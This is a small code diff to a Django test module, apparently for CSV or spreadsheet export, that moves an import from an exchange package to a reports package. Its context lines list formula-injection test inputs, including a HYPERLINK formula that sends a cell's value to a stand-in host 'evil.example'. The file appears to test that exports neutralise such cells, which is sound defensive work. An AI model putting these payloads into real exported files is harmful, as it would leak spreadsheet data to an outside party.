@@ -13,9 +13,9 @@ from django.test import RequestFactory
 from django.urls import reverse
 
 from jiaoyun.core.errors import DomainError
-from jiaoyun.exchange.export import Column, export_response
 from jiaoyun.exchange.models import ImportBatch
 from jiaoyun.exchange.services import import_file
+from jiaoyun.reports.export import Column, export_response
 
 DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "-2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
 HARMLESS = ["张三", "1+1", "a=b", "530521********0017"]
